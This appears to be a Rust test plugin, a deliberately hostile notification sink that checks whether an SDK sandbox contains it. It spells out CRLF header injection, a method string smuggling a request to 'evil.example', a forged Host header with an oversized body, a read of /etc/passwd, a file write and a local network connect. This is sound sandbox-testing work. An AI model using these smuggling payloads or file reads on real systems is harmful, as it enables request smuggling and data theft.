//! A notification sink that misbehaves on request, to prove that a sink can reach nothing but its own
//! channel's endpoint and cannot stall or break the host.
//!
//! The channel option `mode` picks what `render` (and `render-batch`) does:
//!
//! - `loop`: spins forever (the host's time limit ends it);
//! - `alloc`: asks for 2 GiB (the host's memory limit stops it);
//! - `panic`: panics (a trap);
//! - `host-header`: returns a POST with the headers `Host: evil.example`, `Connection: keep-alive, Upgrade`,
//!   `Transfer-Encoding: chunked` and a 100 MB body (the host refuses headers it owns and oversized bodies);
//! - `crlf`: returns a header whose value smuggles a line break and a second `Host` header;
//! - `method`: returns a method that smuggles an absolute URL to another host
//!   (`GET http://evil.example/ HTTP/1.1`);
//! - `file`: tries to read `/etc/passwd` and to write a file with `std::fs` (the sandbox has no files);
//! - `net`: tries `std::net::TcpStream::connect("127.0.0.1:80")` (the sandbox has no network);
//! - `read-file`, `env`, `connect`: the other hostile plugins' misbehaviours (`src/misbehave.rs`).
//!
//! `file` and `net` return a `denied` error when the sandbox refused, an `internal` error saying what got
//! through otherwise. Without `mode` the sink behaves: it posts the envelope and asks for a signature.
//! `classify` misbehaves the same way when the answer's body is `hostile:<mode>` (`hostile:loop`...),
//! and otherwise reads the answer as usual.

// `for_table` serves the hostile dialect, strategy and policy, which pick a misbehaviour by table name.
#[allow(dead_code)]
#[path = "../src/misbehave.rs"]
mod misbehave;

#[cfg(target_arch = "wasm32")]
use ai_shell_notify_sdk::export_sink;
use ai_shell_notify_sdk::{
    ChannelContext, Delivery, DeliveryKind, Event, HttpRequest, HttpResponse, Outcome, PluginError,
    SettingDoc, Sink, SinkInfo, classify_default, setting,
};
use misbehave::{Misbehaviour, Outcome as Tried};

pub struct HostileSink;

fn refused_or_through(tried: Tried) -> PluginError {
    match tried {
        Tried::Refused(why) => PluginError::Denied(why),
        Tried::Done(what) => PluginError::Internal(format!("the sandbox let it through: {what}")),
    }
}

fn file() -> PluginError {
    if let Tried::Done(what) = Misbehaviour::ReadFile.run() {
        return refused_or_through(Tried::Done(what));
    }
    match std::fs::write("/tmp/ai-shell-hostile-sink", b"written from the sandbox") {
        Ok(()) => refused_or_through(Tried::Done("wrote /tmp/ai-shell-hostile-sink".to_string())),
        Err(e) => refused_or_through(Tried::Refused(format!(
            "the sandbox refused to read /etc/passwd and to write /tmp/ai-shell-hostile-sink ({})",
            e.kind()
        ))),
    }
}

fn net() -> PluginError {
    refused_or_through(match std::net::TcpStream::connect("127.0.0.1:80") {
        Ok(_) => Tried::Done("connected to 127.0.0.1:80".to_string()),
        Err(e) => Tried::Refused(format!(
            "the sandbox refused a network connection to 127.0.0.1:80 ({})",
            e.kind()
        )),
    })
}

fn post(headers: Vec<(String, String)>, body: Vec<u8>, method: &str) -> Delivery {
    Delivery::Http(HttpRequest {
        method: method.to_string(),
        headers,
        body,
        sign: Some("X-AI-Shell-Signature".to_string()),
    })
}

fn h(name: &str, value: &str) -> (String, String) {
    (name.to_string(), value.to_string())
}

/// What the mode asks for, given the delivery a well-behaved sink would make.
fn misbehave(mode: Option<&str>, body: &str) -> Result<Delivery, PluginError> {
    let json = || vec![h("Content-Type", "application/json")];
    match mode {
        None | Some("") => Ok(post(json(), body.as_bytes().to_vec(), "POST")),
        Some("host-header") => Ok(post(
            vec![
                h("Host", "evil.example"),
                h("Connection", "keep-alive, Upgrade"),
                h("Transfer-Encoding", "chunked"),
                h("Content-Type", "application/json"),
            ],
            vec![b'x'; 100 << 20],
            "POST",
        )),
        Some("crlf") => Ok(post(
            vec![
                h("Content-Type", "application/json"),
                h("X-Note", "fine\r\nHost: evil.example\r\n\r\nGET / HTTP/1.1"),
            ],
            body.as_bytes().to_vec(),
            "POST",
        )),
        Some("method") => Ok(post(
            json(),
            body.as_bytes().to_vec(),
            "GET http://evil.example/ HTTP/1.1",
        )),
        Some("file") => Err(file()),
        Some("net") => Err(net()),
        // `loop`, `alloc`, `panic`, and the other hostile plugins' `read-file`, `env`, `connect`.
        Some(other) => match Misbehaviour::named(other) {
            Some(how) => Err(refused_or_through(how.run())),
            None => Err(PluginError::InvalidInput(format!(
                "unknown mode `{other}`: loop, alloc, panic, host-header, crlf, method, file, net \
                 (or read-file, env, connect)"
            ))),
        },
    }
}

impl Sink for HostileSink {
    fn info() -> SinkInfo {
        SinkInfo {
            name: "hostile-sink".into(),
            version: "0.1.0".into(),
            description: "misbehaves on request while rendering (sandbox tests)".into(),
            kind: DeliveryKind::Http,
            batch: true,
            settings: vec![SettingDoc {
                key: "mode".into(),
                required: false,
                summary: "loop, alloc, panic, host-header, crlf, method, file, net, read-file, env or connect"
                    .into(),
            }],
        }
    }

    fn render(event: Event, channel: ChannelContext) -> Result<Delivery, PluginError> {
        misbehave(setting(&channel, "mode"), &event.envelope_json)
    }

    fn render_batch(events: Vec<Event>, channel: ChannelContext) -> Result<Delivery, PluginError> {
        let body = format!(
            "[{}]",
            events
                .iter()
                .map(|e| e.envelope_json.as_str())
                .collect::<Vec<_>>()
                .join(",")
        );
        misbehave(setting(&channel, "mode"), &body)
    }

    fn classify(response: HttpResponse) -> Outcome {
        let body = String::from_utf8_lossy(&response.body);
        match body.trim().strip_prefix("hostile:") {
            Some(mode) => match misbehave(Some(mode), "") {
                Ok(_) => Outcome::Permanent(format!("hostile:{mode} has no effect on classify")),
                Err(e) => Outcome::Permanent(format!("{e:?}")),
            },
            None => classify_default(&response),
        }
    }
}

#[cfg(target_arch = "wasm32")]
export_sink!(HostileSink);
